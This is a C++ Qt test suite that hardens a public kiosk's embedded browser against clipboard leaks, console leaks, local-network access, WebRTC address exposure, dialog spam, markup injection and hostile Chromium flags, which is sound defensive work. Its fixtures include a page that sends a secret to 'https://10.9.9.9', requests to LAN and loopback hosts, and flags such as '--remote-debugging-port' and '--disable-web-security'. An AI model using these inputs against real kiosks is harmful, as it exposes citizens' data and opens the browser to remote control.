// SPDX-License-Identifier: GPL-3.0-or-later
// SPDX-FileCopyrightText: 2026 Mist contributors
// Issue 13, the browser and UI holes, in the real kiosk shell against TestHttpsServer on
// 127.0.0.1 (the portal): clipboard (1), console output (2), no network for the UI (3), the
// "another website" card (5), the view's own profile (8), dialogs (11), Chromium flags from the
// environment (14), local-network destinations and WebRTC (15).
//
// Holes 2 and 14 need the kiosk's stderr and environment: the test runs itself as a child process
// (--hardening-child) with a hostile QTWEBENGINE_CHROMIUM_FLAGS and reads what it printed.

#include "kioskharness.h"
#include "session/sessioncontroller.h"
#include "testhttpsserver.h"

#include <QClipboard>
#include <QGuiApplication>
#include <QPointer>
#include <QProcess>
#include <QQmlComponent>
#include <QQmlContext>
#include <QQmlEngine>
#include <QQuickItem>
#include <QQuickWindow>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>

#include <cstdio>

using namespace Qt::StringLiterals;
using MistTest::KioskHarness;
using MistTest::TestHttpsServer;

namespace {

constexpr auto secret = "SECRET-7a41c9";

QByteArray page(const QByteArray &title, const QByteArray &body = {}, const QByteArray &script = {})
{
    return "<!doctype html><html><head><meta charset=utf-8><title>" + title
        + "</title></head><body style='margin:0'>" + body
        + "<script>function report(what) { fetch('/report/' + what).catch(() => {}); }\n" + script
        + "</script></body></html>";
}

TestHttpsServer::Route html(const QByteArray &body)
{
    TestHttpsServer::Route route = TestHttpsServer::text(body);
    route.contentType = "text/html; charset=utf-8";
    return route;
}

// The child: the kiosk's browser set-up with the environment the parent gave it, one page that
// writes the secret to its console, then whether the debugging port from the environment opened.
int runChild(int argc, char **argv)
{
    KioskHarness::initializeWebEngine();
    QGuiApplication app(argc, argv);
    const QUrl url(QString::fromLocal8Bit(argv[2]));
    const quint16 debugPort = QString::fromLocal8Bit(argv[3]).toUShort();
    KioskHarness kiosk;
    if (!kiosk.load())
        return 3;
    kiosk.session().start();
    if (!kiosk.openPortal(url))
        return 4;
    if (!QTest::qWaitFor([&] { return kiosk.title() == "logged"_L1; }, 30000))
        return 5;
    QTest::qWait(500);
    QTcpSocket socket;
    socket.connectToHost(QHostAddress::LocalHost, debugPort);
    const bool open = socket.waitForConnected(2000);
    std::printf("console messages: %d\ndebug port %s\n",
        kiosk.portalBrowser()->property("consoleMessages").toInt(), open ? "OPEN" : "closed");
    std::fflush(stdout);
    kiosk.session().finish();
    QTest::qWait(200);
    return 0;
}

} // namespace

class TestBrowserHardening : public QObject
{
    Q_OBJECT

private:
    TestHttpsServer m_server {TestHttpsServer::Threading::OwnThread};
    TestHttpsServer m_otherLoopback {TestHttpsServer::Threading::OwnThread};
    std::unique_ptr<KioskHarness> m_kiosk;

    QUrl portal(const QString &path) const { return m_server.url(path); }
    // The same server under a public-looking name (the harness maps *.test to 127.0.0.1).
    QUrl publicSite(const QString &path) const
    {
        QUrl url = m_server.url(path);
        url.setHost(u"cdn.mist.test"_s);
        return url;
    }

    QQuickItem *child(const char *name) const
    {
        QQuickItem *browser = m_kiosk->browser();
        return browser ? browser->findChild<QQuickItem *>(QString::fromLatin1(name)) : nullptr;
    }

    void open(const QString &path, const QString &title, const QString &name = u"Test portal"_s)
    {
        m_kiosk->session().start();
        QVERIFY(m_kiosk->openPortal(portal(path), {}, name));
        QVERIFY(m_kiosk->waitForLoad());
        QCOMPARE(m_kiosk->title(), title);
    }

    void tap(QQuickItem *item) const
    {
        const QPoint centre
            = item->mapToScene(QPointF(item->width() / 2, item->height() / 2)).toPoint();
        QTest::mouseClick(m_kiosk->window(), Qt::LeftButton, {}, centre);
    }

private Q_SLOTS:
    void initTestCase()
    {
        m_server.setRoute(u"/portal"_s, html(page("portal")));
        m_server.setRoute(u"/ok"_s, TestHttpsServer::text("ok"));
        m_server.setRoute(u"/x.png"_s, TestHttpsServer::text("png"));
        // One big button: a tap anywhere on the page copies the citizen's number.
        m_server.setRoute(u"/copy"_s,
            html(page("copy",
                "<input id=t value='" + QByteArray(secret)
                    + "'><button id=b style='position:fixed;inset:0;width:100%;height:100%'"
                      " onclick=\"t.select(); document.execCommand('copy'); report('copied')\">"
                      "Copy</button>")));
        m_server.setRoute(u"/console"_s,
            html(page("console", {},
                "console.log('log " + QByteArray(secret)
                    + "');"
                      "console.warn('warn "
                    + secret + "'); console.error('error " + secret
                    + "');"
                      "fetch('https://10.9.9.9/q?typed="
                    + secret
                    + "').catch(() => {});"
                      "setTimeout(() => { document.title = 'logged'; }, 500);")));
        m_server.setRoute(u"/webrtc"_s, html(page("webrtc", {}, R"(
const pc = new RTCPeerConnection({iceServers: []});
pc.createDataChannel('x');
const candidates = [];
pc.onicecandidate = e => {
    if (e.candidate) { candidates.push(e.candidate.candidate); return; }
    document.title = 'ice:' + candidates.length;
};
pc.createOffer().then(o => pc.setLocalDescription(o));
setTimeout(() => { if (!document.title.startsWith('ice:')) document.title = 'ice:' + candidates.length; }, 8000);
)")));
        QVERIFY(m_server.start());
        m_otherLoopback.setRoute(u"/staff-api"_s, TestHttpsServer::text("token"));
        QVERIFY(m_otherLoopback.start());

        m_kiosk = std::make_unique<KioskHarness>();
        QVERIFY(m_kiosk->load());
    }

    void cleanup()
    {
        if (m_kiosk->session().isActive())
            m_kiosk->session().finish();
        QTRY_VERIFY(!m_kiosk->browser());
    }

    void cleanupTestCase() { m_kiosk.reset(); }

    // Hole 8: the view's own profile (not the helper's) is the kiosk's off-the-record one, with
    // its request filter.
    void theViewUsesTheKioskProfile()
    {
        open(u"/portal"_s, u"portal"_s);
        QObject *viewProfile = m_kiosk->view()->property("profile").value<QObject *>();
        QVERIFY(viewProfile);
        QCOMPARE(viewProfile, m_kiosk->profile());
        QVERIFY(viewProfile->property("offTheRecord").toBool());
        QVERIFY(viewProfile->findChild<QObject *>(u"portalRequestFilter"_s));
        QVERIFY(m_kiosk->portalBrowser()->property("ready").toBool());
        QVERIFY(!child("browserUnavailable")->isVisible());
    }

    // Hole 8: a view that keeps another profile (here one that already loaded a page with Qt's
    // default profile) leaves the browser not ready, so BrowserView loads nothing.
    void aViewWithAnotherProfileIsRefused()
    {
        QQmlEngine *engine = qmlEngine(m_kiosk->shell());
        QQmlComponent component(engine);
        component.setData(R"(
import QtQuick
import QtWebEngine
import Mist
Item {
    width: 400; height: 300
    property alias view: view
    property alias controller: controller
    WebEngineView { id: view; anchors.fill: parent; url: "data:text/html,<title>default</title>" }
    PortalBrowser { id: controller }
}
)",
            QUrl(u"qrc:/hardening/failclosed.qml"_s));
        std::unique_ptr<QObject> root(component.create());
        QVERIFY2(root, qPrintable(component.errorString()));
        auto *view = root->property("view").value<QObject *>();
        auto *controller = root->property("controller").value<QObject *>();
        QTRY_COMPARE_WITH_TIMEOUT(view->property("title").toString(), u"default"_s, 20000);
        QObject *defaultProfile = view->property("profile").value<QObject *>();
        controller->setProperty("webView", QVariant::fromValue(view));
        if (view->property("profile").value<QObject *>() == defaultProfile)
            QVERIFY(!controller->property("ready").toBool());
        else // Qt took the profile after all: then it must be the kiosk's
            QCOMPARE(view->property("profile").value<QObject *>(),
                controller->property("profile").value<QObject *>());
        // An object with no profile at all is never ready either.
        QQuickItem notAView;
        controller->setProperty("webView", QVariant::fromValue<QObject *>(&notAView));
        QVERIFY(!controller->property("ready").toBool());
        controller->setProperty("webView", QVariant::fromValue<QObject *>(nullptr));
        root.reset();
        QTest::qWait(100);
    }

    // Hole 1: a page's copy button fills the clipboard; Finish empties it, and so does leaving
    // the portal.
    void clipboardIsClearedAtFinish()
    {
        QGuiApplication::clipboard()->clear();
        open(u"/copy"_s, u"copy"_s);
        tap(m_kiosk->view());
        QTRY_COMPARE_WITH_TIMEOUT(m_server.requestCount(u"/report/copied"_s), 1, 10000);
        QTRY_COMPARE_WITH_TIMEOUT(
            QGuiApplication::clipboard()->text(), QString::fromLatin1(secret), 10000);
        tap(child("browserFinishButton"));
        QTRY_VERIFY(!m_kiosk->session().isActive());
        QTRY_VERIFY(!m_kiosk->browser());
        QCOMPARE(QGuiApplication::clipboard()->text(), QString());
        QCOMPARE(QGuiApplication::clipboard()->text(QClipboard::Selection), QString());
        QCOMPARE(QGuiApplication::clipboard()->text(QClipboard::FindBuffer), QString());
    }

    void clipboardIsClearedWhenThePortalCloses()
    {
        m_server.resetCounters();
        open(u"/copy"_s, u"copy"_s);
        tap(m_kiosk->view());
        QTRY_COMPARE_WITH_TIMEOUT(
            QGuiApplication::clipboard()->text(), QString::fromLatin1(secret), 10000);
        tap(child("browserBackButton")); // the first page: back closes the browser
        QTRY_VERIFY(!m_kiosk->browser());
        QVERIFY(m_kiosk->session().isActive());
        QTRY_COMPARE(QGuiApplication::clipboard()->text(), QString());
    }

    // Hole 11: a dialog never covers the kiosk bar: Finish works with an alert open.
    void finishWorksOverAPageDialog()
    {
        open(u"/portal"_s, u"portal"_s);
        m_kiosk->runJavaScript(u"for (;;) alert('Your computer is infected')"_s);
        QQuickItem *dialog = child("jsDialog");
        QTRY_VERIFY_WITH_TIMEOUT(dialog->isVisible(), 10000);
        QQuickItem *finish = child("browserFinishButton");
        const QRectF finishRect = finish->mapRectToScene(finish->boundingRect());
        const QRectF dialogRect = dialog->mapRectToScene(dialog->boundingRect());
        QVERIFY(!finishRect.intersects(dialogRect));
        tap(finish);
        QTRY_VERIFY(!m_kiosk->session().isActive());
    }

    // Hole 11: an alert() loop shows three dialogs, then the kiosk refuses the rest.
    void alertLoopIsStopped()
    {
        m_server.resetCounters();
        open(u"/portal"_s, u"portal"_s);
        m_kiosk->runJavaScript(
            u"for (let i = 0; i < 50; i++) alert('spam ' + i); report('loop-done')"_s);
        QQuickItem *dialog = child("jsDialog");
        int shown = 0;
        while (m_server.requestCount(u"/report/loop-done"_s) == 0 && shown < 20) {
            if (!QTest::qWaitFor(
                    [&] {
                        return dialog->isVisible()
                            || m_server.requestCount(u"/report/loop-done"_s) > 0;
                    },
                    10000))
                break;
            if (!dialog->isVisible())
                break;
            ++shown;
            tap(child("jsDialogOk"));
            QTRY_VERIFY(!dialog->isVisible());
        }
        QTRY_COMPARE_WITH_TIMEOUT(m_server.requestCount(u"/report/loop-done"_s), 1, 10000);
        QCOMPARE(shown, 3);
        QVERIFY(m_kiosk->portalBrowser()->property("dialogsSuppressed").toBool());
        QVERIFY(child("browserNotice")->isVisible());
    }

    // Hole 5: a clean https address: the host in large letters, a QR code without the query
    // and fragment the page put in it.
    void anotherSiteOffersOnlyACleanHttpsAddress()
    {
        open(u"/portal"_s, u"portal"_s);
        QUrl target = publicSite(u"/oauth/cb"_s);
        target.setQuery(u"code=%1"_s.arg(QLatin1String(secret)));
        target.setFragment(u"token"_s);
        m_kiosk->runJavaScript(u"location.href = '%1'"_s.arg(target.toString()));
        QTRY_VERIFY_WITH_TIMEOUT(m_kiosk->browser()->property("blockedShown").toBool(), 10000);
        QVERIFY(child("blockedQr")->isVisible());
        const QString expected = publicSite(u"/oauth/cb"_s).toString();
        QCOMPARE(child("blockedQr")->property("text").toString(), expected);
        QCOMPARE(child("blockedHost")->property("text").toString(), u"cdn.mist.test"_s);
        QVERIFY(child("blockedHost")->isVisible());
        QVERIFY(
            !child("blockedAddress")->property("text").toString().contains(QLatin1String(secret)));
        QCOMPARE(m_server.requestCount(u"/oauth/cb"_s), 0);
    }

    void anotherSiteOverHttpHasNoQrCode()
    {
        open(u"/portal"_s, u"portal"_s);
        m_kiosk->runJavaScript(u"location.href = 'http://example.test/form?pin=1234'"_s);
        QTRY_VERIFY_WITH_TIMEOUT(m_kiosk->browser()->property("blockedShown").toBool(), 10000);
        QVERIFY(!child("blockedQr")->isVisible());
        QVERIFY(!child("blockedHost")->isVisible());
        QCOMPARE(child("blockedQr")->property("text").toString(), QString());
        QCOMPARE(child("blockedAddress")->property("text").toString(), QString());
    }

    // Hole 15: a page on the portal 127.0.0.1:A reaches neither another loopback port (the staff
    // API), nor localhost, nor the LAN; a public name still loads. The LAN addresses are refused by
    // the filter before any connection: none is ever attempted.
    void localNetworkIsRefused()
    {
        open(u"/portal"_s, u"portal"_s);
        QObject *controller = m_kiosk->portalBrowser();
        const int blockedBefore = controller->property("blockedRequests").toInt();
        QUrl localhost = m_server.url(u"/ok"_s);
        localhost.setHost(u"localhost"_s);
        // no-cors: a request that got through resolves, whatever CORS headers the other side sends.
        m_kiosk->runJavaScript(
            u"fetch('%1', {mode: 'no-cors'}).then(() => report('public-ok'));"
            "for (const u of ['%2', '%3', 'https://10.0.0.1/x', "
            "'https://192.168.1.1/admin', 'https://[fd00::1]/x']) "
            "  fetch(u, {mode: 'no-cors'}).then(() => report('reached'), () => report('refused'));"_s
                .arg(publicSite(u"/ok"_s).toString(),
                    m_otherLoopback.url(u"/staff-api"_s).toString(), localhost.toString()));
        QTRY_COMPARE_WITH_TIMEOUT(m_server.requestCount(u"/report/public-ok"_s), 1, 10000);
        QTRY_COMPARE_WITH_TIMEOUT(m_server.requestCount(u"/report/refused"_s), 5, 10000);
        QCOMPARE(m_server.requestCount(u"/report/reached"_s), 0);
        QCOMPARE(m_otherLoopback.totalRequestCount(), 0);
        QCOMPARE(m_otherLoopback.connectionCount(), 0);
        QCOMPARE(m_server.requestCount(u"/ok"_s), 1); // the public name only
        QCOMPARE(controller->property("blockedRequests").toInt() - blockedBefore, 5);
    }

    // Hole 15: WebRTC gathers no candidate that shows the kiosk's interfaces.
    void webRtcRevealsNoLocalAddress()
    {
        open(u"/webrtc"_s, u"webrtc"_s);
        QTRY_VERIFY_WITH_TIMEOUT(m_kiosk->title().startsWith(u"ice:"_s), 15000);
        QCOMPARE(m_kiosk->title(), u"ice:0"_s);
    }

    // Hole 3: a portal name with markup is drawn as its characters, and the UI fetches nothing.
    void markupInAPortalNameIsText()
    {
        const QString name
            = u"<b>x</b><img src=\"%1\">"_s.arg(m_server.plainUrl(u"/x.png"_s).toString());
        m_server.resetCounters();
        open(u"/portal"_s, u"portal"_s, name);
        QList<QQuickItem *> texts;
        for (QQuickItem *item : m_kiosk->browser()->findChildren<QQuickItem *>()) {
            if (item->property("text").toString() == name && item->property("textFormat").isValid())
                texts << item;
        }
        QVERIFY(!texts.isEmpty());
        for (QQuickItem *text : std::as_const(texts))
            QCOMPARE(text->property("textFormat").toInt(), int(Qt::PlainText));
        QTest::qWait(500);
        QCOMPARE(m_server.plainConnectionCount(), 0);
        QCOMPARE(m_server.requestCount(u"/x.png"_s), 0);
    }

    // Hole 3: even rich text or an Image with an http source fetches nothing in the kiosk's
    // engine: its network access manager refuses every request.
    void theUiHasNoNetwork()
    {
        m_server.resetCounters();
        QQmlComponent component(qmlEngine(m_kiosk->shell()));
        component.setData(u"import QtQuick\nItem {\n"
                          "property alias image: image\n"
                          "Image { id: image; source: '%1' }\n"
                          "Text { textFormat: Text.RichText; text: '<img src=\"%2\">' }\n}\n"_s
                              .arg(m_server.url(u"/x.png"_s).toString(),
                                  m_server.plainUrl(u"/x.png"_s).toString())
                              .toUtf8(),
            QUrl(u"qrc:/hardening/network.qml"_s));
        std::unique_ptr<QObject> root(component.create());
        QVERIFY2(root, qPrintable(component.errorString()));
        QObject *image = root->property("image").value<QObject *>();
        QTRY_COMPARE_WITH_TIMEOUT(image->property("status").toInt(), 3 /* Image.Error */, 10000);
        QTest::qWait(500);
        QCOMPARE(m_server.connectionCount(), 0);
        QCOMPARE(m_server.plainConnectionCount(), 0);
    }

    // Holes 2 and 14: the kiosk, started with a hostile QTWEBENGINE_CHROMIUM_FLAGS, opens a page
    // that writes a secret to its console: nothing of it reaches stderr, the debugging port from
    // the environment never opens, and the refusal is logged by flag name.
    void consoleAndEnvironmentFlagsStayOut()
    {
        QTcpServer probe;
        QVERIFY(probe.listen(QHostAddress::LocalHost));
        const quint16 debugPort = probe.serverPort();
        probe.close();
        QProcess kiosk;
        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
        environment.insert(u"QTWEBENGINE_CHROMIUM_FLAGS"_s,
            u"--remote-debugging-port=%1 --disable-web-security --enable-logging=stderr --v=1 "
            "--disable-gpu"_s.arg(debugPort));
        kiosk.setProcessEnvironment(environment);
        kiosk.start(QCoreApplication::applicationFilePath(),
            {u"--hardening-child"_s, portal(u"/console"_s).toString(), QString::number(debugPort)});
        QVERIFY(kiosk.waitForFinished(90000));
        const QByteArray out = kiosk.readAllStandardOutput();
        const QByteArray err = kiosk.readAllStandardError();
        QVERIFY2(kiosk.exitCode() == 0, err.constData());
        QVERIFY2(!err.contains(secret), err.constData());
        QVERIFY2(!out.contains(secret), out.constData());
        QVERIFY2(out.contains("debug port closed"), out.constData());
        // Three from the page, and Chromium's own about the refused fetch (with its URL).
        const qsizetype at = out.indexOf("console messages: ");
        QVERIFY2(at >= 0, out.constData());
        QVERIFY2(out.mid(at + 18).split('\n').constFirst().toInt() >= 3, out.constData());
        QVERIFY(err.contains("ignoring the Chromium flag --remote-debugging-port"));
        QVERIFY(err.contains("ignoring the Chromium flag --disable-web-security"));
        QVERIFY(!err.contains("ignoring the Chromium flag --disable-gpu"));
    }
};

int main(int argc, char **argv)
{
    if (argc == 4 && qstrcmp(argv[1], "--hardening-child") == 0)
        return runChild(argc, argv);
    KioskHarness::initializeWebEngine();
    QGuiApplication app(argc, argv);
    TestBrowserHardening test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_browserhardening.moc"
